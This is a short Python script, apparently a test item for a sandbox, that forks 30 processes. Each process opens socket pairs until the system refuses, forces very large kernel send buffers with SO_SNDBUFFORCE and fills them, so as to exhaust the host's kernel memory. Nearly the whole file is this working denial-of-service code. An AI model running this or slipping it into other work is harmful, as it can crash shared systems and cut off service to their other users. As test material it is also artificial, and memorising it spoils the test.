"""Fills the kernel's buffers of as many sockets as it gets, and asks for larger ones."""

SUCCESS = "kernel memory beside the limit"
PROOF = "stopped"

# %%
import contextlib
import os
import socket
import time

for _ in range(30):
    if os.fork() == 0:
        kept = []
        with contextlib.suppress(OSError):
            while True:
                pair = socket.socketpair()
                kept += pair
                for end in pair:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                    end.setsockopt(socket.SOL_SOCKET, 32, 1 << 30)  # SO_SNDBUFFORCE
                    end.setblocking(False)
                    with contextlib.suppress(BlockingIOError):
                        while True:
                            end.send(b"x" * 65536)
        time.sleep(60)
time.sleep(60)
